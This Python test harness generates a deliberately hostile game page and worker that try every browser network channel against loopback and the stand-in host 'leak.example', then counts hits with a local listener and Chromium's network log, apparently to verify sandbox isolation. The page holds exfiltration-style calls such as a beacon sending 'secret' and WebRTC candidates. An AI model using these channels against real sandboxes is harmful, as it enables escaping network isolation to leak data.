"""A game that tries every way a page has of reaching the network, a listener that counts
what reaches it, and a reader of Chromium's own network log.

The page (`hostile_files(port)`) aims each try at 127.0.0.1, [::1], `localhost` and
`game.localhost` (names Chromium resolves to loopback itself, so they reach the listener),
and at `leak.example` (a name only DNS could answer: it shows up in the network log, never
at the listener). It logs `ATTEMPTED <kinds>` with console.error, so a playtest report holds
it too.
"""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections import Counter
from pathlib import Path

LOOPBACK_HOSTS = ("127.0.0.1", "[::1]", "localhost", "game.localhost")
DNS_HOST = "leak.example"
HOSTS = (*LOOPBACK_HOSTS, DNS_HOST)
RESOURCE_HINTS = ("preconnect", "dns-prefetch", "prefetch", "prerender", "modulepreload")

# Every kind the page tries, by the name it logs. A try that throws is logged as
# `kind:ErrorName` (the API refused it at once), which is as good as not reaching anyone.
KINDS = (
    *(f"link-{rel}" for rel in RESOURCE_HINTS),
    "link-icon",
    "link-ping",
    "speculation-rules",
    "fetch",
    "websocket",
    "eventsource",
    "beacon",
    "webtransport",
    "webrtc",
    "worker",
    "blob-worker",
    "shared-worker",
    "service-worker",
    "iframe",
)

_TRIES_JS = """
const tryEach = (hosts, port, attempt) => {
  for (const h of hosts) {
    const o = `http://${h}:${port}`;
    attempt('fetch', () => fetch(o + '/fetch', {mode: 'no-cors'}));
    attempt('websocket', () => new WebSocket(`ws://${h}:${port}/ws`));
    attempt('eventsource', () => new EventSource(o + '/events'));
    attempt('webtransport', () => new WebTransport(`https://${h}:${port}/wt`).ready);
    if (typeof importScripts === 'function') attempt('import', () => importScripts(o + '/i.js'));
  }
};
"""

WORKER_JS = (
    _TRIES_JS
    + """
const hosts = JSON.parse(new URL(self.location.href).searchParams.get('hosts') || '[]');
const port = new URL(self.location.href).searchParams.get('port');
tryEach(hosts, port, (name, f) => { try { const r = f(); if (r && r.catch) r.catch(() => {}); }
  catch (e) {} });
"""
)

PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8">
{hints}
<link rel="icon" href="http://127.0.0.1:{port}/favicon.ico">
<script type="speculationrules">{speculation}</script>
</head><body>
<a id="ping" href="http://127.0.0.1:{port}/followed" ping="http://127.0.0.1:{port}/ping">x</a>
{iframes}
<script>
const HOSTS = {hosts};
const PORT = {port};
const tries = [];
const attempt = (name, f) => {{
  try {{ const r = f(); tries.push(name); if (r && r.catch) r.catch(() => {{}}); }}
  catch (e) {{ tries.push(name + ':' + e.name); }}
}};
{tries_js}
tryEach(HOSTS, PORT, attempt);
for (const h of HOSTS) {{
  const o = `http://${{h}}:${{PORT}}`;
  attempt('beacon', () => navigator.sendBeacon(o + '/beacon', 'secret'));
  for (const rel of {hint_kinds}) attempt('link-' + rel, () => {{
    const l = document.createElement('link'); l.rel = rel; l.href = o + '/dyn-' + rel;
    document.head.append(l); }});
}}
attempt('speculation-rules', () => {{ const s = document.createElement('script');
  s.type = 'speculationrules';
  s.textContent = JSON.stringify({{prerender: [{{source: 'list',
    urls: HOSTS.map(h => `http://${{h}}:${{PORT}}/dyn-prerender-rule`)}}]}});
  document.head.append(s); }});
const query = '?hosts=' + encodeURIComponent(JSON.stringify(HOSTS)) + '&port=' + PORT;
attempt('worker', () => new Worker('worker.js' + query));
attempt('blob-worker', () => new Worker(URL.createObjectURL(
  new Blob([{worker_js}], {{type: 'text/javascript'}})) + '#' + query));
attempt('shared-worker', () => new SharedWorker('worker.js' + query + '&shared=1'));
attempt('service-worker', () => navigator.serviceWorker.register('worker.js' + query));
attempt('link-ping', () => document.getElementById('ping').click());
attempt('webrtc', async () => {{
  const servers = [];
  for (const h of HOSTS) servers.push({{urls: `stun:${{h}}:${{PORT}}`}},
    {{urls: [`turn:${{h}}:${{PORT}}?transport=tcp`, `turn:${{h}}:${{PORT}}?transport=udp`],
      username: 'user', credential: 'secret'}});
  const a = new RTCPeerConnection({{iceServers: servers}});
  const b = new RTCPeerConnection();
  a.createDataChannel('leak');
  await a.setLocalDescription(await a.createOffer());
  await b.setRemoteDescription(a.localDescription);
  await b.setLocalDescription(await b.createAnswer());
  await a.setRemoteDescription(b.localDescription);
  // Remote candidates aimed at the listener: UDP, TCP (passive: we connect), an mDNS name.
  for (const c of [`candidate:1 1 udp 2122260223 127.0.0.1 ${{PORT}} typ host`,
      `candidate:2 1 tcp 1518280447 127.0.0.1 ${{PORT}} typ host tcptype passive`,
      `candidate:3 1 udp 2122260223 leak-rtc.local ${{PORT}} typ host`])
    await a.addIceCandidate({{candidate: c, sdpMid: '0', sdpMLineIndex: 0}});
}});
tries.push('iframe', 'link-icon', 'link-preconnect', 'link-dns-prefetch');
setTimeout(() => console.error('ATTEMPTED ' + [...new Set(tries)].join(',')), 1000);
</script></body></html>
"""


def hostile_files(port: int) -> dict[str, str]:
    """index.html and worker.js of a game that tries every kind of network access."""
    hints = "\n".join(
        f'<link rel="{rel}" href="http://{h}:{port}/{rel}"'
        + (' as="script"' if rel == "modulepreload" else "")
        + ">"
        for h in HOSTS
        for rel in RESOURCE_HINTS
    )
    origins = [f"http://{h}:{port}" for h in HOSTS]
    speculation = json.dumps(
        {
            "prefetch": [{"source": "list", "urls": [f"{o}/rule-prefetch" for o in origins]}],
            "prerender": [{"source": "list", "urls": [f"{o}/rule-prerender" for o in origins]}],
        }
    )
    srcdoc = (
        f"<script>fetch('{origins[0]}/srcdoc');new WebSocket('ws://localhost:{port}/')</script>"
    )
    iframes = "\n".join(
        [f'<iframe src="{o}/iframe"></iframe>' for o in origins]
        + [f'<iframe srcdoc="{srcdoc}"></iframe>']
    )
    page = PAGE.format(
        hints=hints,
        port=port,
        speculation=speculation,
        iframes=iframes,
        hosts=json.dumps(list(HOSTS)),
        hint_kinds=json.dumps(list(RESOURCE_HINTS)),
        tries_js=_TRIES_JS,
        worker_js=json.dumps(WORKER_JS + "\n//"),  # the '#query' lands in the comment
    )
    return {"index.html": page, "worker.js": WORKER_JS}


def attempted(messages: list[str]) -> set[str]:
    """The kinds a page logged as tried (see KINDS), from its console lines."""
    for message in messages:
        if message.startswith("ATTEMPTED "):
            return {k.split(":")[0] for k in message.removeprefix("ATTEMPTED ").split(",")}
    return set()


ANSWER = (
    b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nAccess-Control-Allow-Origin: *\r\n"
    b"Content-Length: 6\r\nConnection: close\r\n\r\nleaked"
)


class CountingListener:
    """TCP and UDP on one port of 127.0.0.1 and ::1: every connection and every datagram is
    counted, with the first bytes of each (an HTTP request line tells which kind it was).
    A TCP connection is answered with a small HTTP response, as a server would."""

    def __init__(self) -> None:
        self.heard: list[tuple[str, bytes]] = []  # (protocol and address family, first bytes)
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._sockets: list[socket.socket] = []
        self.port = self._bind_free_port()
        with contextlib.suppress(OSError):  # a machine without IPv6 loopback
            self._bind(socket.AF_INET6, socket.SOCK_STREAM, "::1", self.port)
            self._bind(socket.AF_INET6, socket.SOCK_DGRAM, "::1", self.port)
        self._threads = [
            threading.Thread(target=self._serve, args=(s,), daemon=True) for s in self._sockets
        ]
        for thread in self._threads:
            thread.start()

    def _bind_free_port(self) -> int:
        """A port free for both TCP and UDP on 127.0.0.1 (the system picks the TCP one; its
        UDP twin may be taken, then another is tried)."""
        for _ in range(20):
            tcp = self._bind(socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1", 0)
            port = tcp.getsockname()[1]
            try:
                self._bind(socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.1", port)
            except OSError:
                self._sockets.remove(tcp)
                tcp.close()
                continue
            return port
        raise OSError("no port free for both TCP and UDP on 127.0.0.1")

    def _bind(self, family: int, kind: int, host: str, port: int) -> socket.socket:
        sock = socket.socket(family, kind)
        try:
            sock.bind((host, port))
        except OSError:
            sock.close()
            raise
        if kind == socket.SOCK_STREAM:
            sock.listen(64)
        sock.settimeout(0.2)
        self._sockets.append(sock)
        return sock

    def _serve(self, sock: socket.socket) -> None:
        label = ("tcp" if sock.type == socket.SOCK_STREAM else "udp") + (
            "6" if sock.family == socket.AF_INET6 else "4"
        )
        while not self._stop.is_set():
            try:
                if sock.type == socket.SOCK_DGRAM:
                    self._count(label, sock.recv(2048))
                else:
                    self._answer(label, sock.accept()[0])
            except (TimeoutError, OSError):
                continue

    def _answer(self, label: str, conn: socket.socket) -> None:
        with conn:
            conn.settimeout(0.5)
            try:
                data = conn.recv(4096)
            except OSError:
                data = b""
            self._count(label, data)  # before the answer: whoever got it may look at once
            with contextlib.suppress(OSError):
                conn.sendall(ANSWER)

    def _count(self, label: str, data: bytes) -> None:
        with self._lock:
            self.heard.append((label, data or b"(connected, nothing sent)"))

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def connections(self) -> list[bytes]:
        """What each TCP connection sent first."""
        return [data for label, data in self.heard if label.startswith("tcp")]

    def summary(self) -> str:
        lines = [f"{label} {data[:60]!r}" for label, data in self.heard]
        return f"{len(self.heard)} heard on port {self.port}:\n" + "\n".join(lines)

    def close(self) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(2)
        for sock in self._sockets:
            sock.close()


def load_netlog(path: Path) -> tuple[dict, list[dict]]:
    """Chromium's network log (`--log-net-log`): its constants and events. A log cut short
    by a process that did not finish writing it is read up to its last whole event."""
    text = path.read_text(encoding="utf-8").rstrip()
    try:
        log = json.loads(text)
    except ValueError:
        text = text.rstrip(",")
        cut = text.rfind("}")
        log = json.loads(text[: cut + 1] + "]}")
    return log["constants"], log["events"]


# Events that mean Chromium looked a name up or opened a socket (net/log/net_log_event_type_list.h).
NETWORK_EVENTS = (
    "HOST_RESOLVER_MANAGER_REQUEST",
    "HOST_RESOLVER_DNS_TASK",
    "HOST_RESOLVER_SYSTEM_TASK",
    "SOCKET_OPEN",
    "TCP_CONNECT_ATTEMPT",
    "UDP_CONNECT",
    "UDP_BYTES_SENT",
)


def netlog_activity(path: Path) -> tuple[Counter[str], set[str]]:
    """What Chromium's network log says it did: how many lookups and socket events of each
    kind (NETWORK_EVENTS), and the hosts it was asked to resolve."""
    constants, events = load_netlog(path)
    names = {number: name for name, number in constants["logEventTypes"].items()}
    counts: Counter[str] = Counter()
    hosts: set[str] = set()
    for event in events:
        name = names.get(event["type"], "")
        if name not in NETWORK_EVENTS or event.get("phase") == 2:  # 2: the end of an event
            continue
        counts[name] += 1
        host = (event.get("params") or {}).get("host")
        if host:
            hosts.add(host)
    return counts, hosts
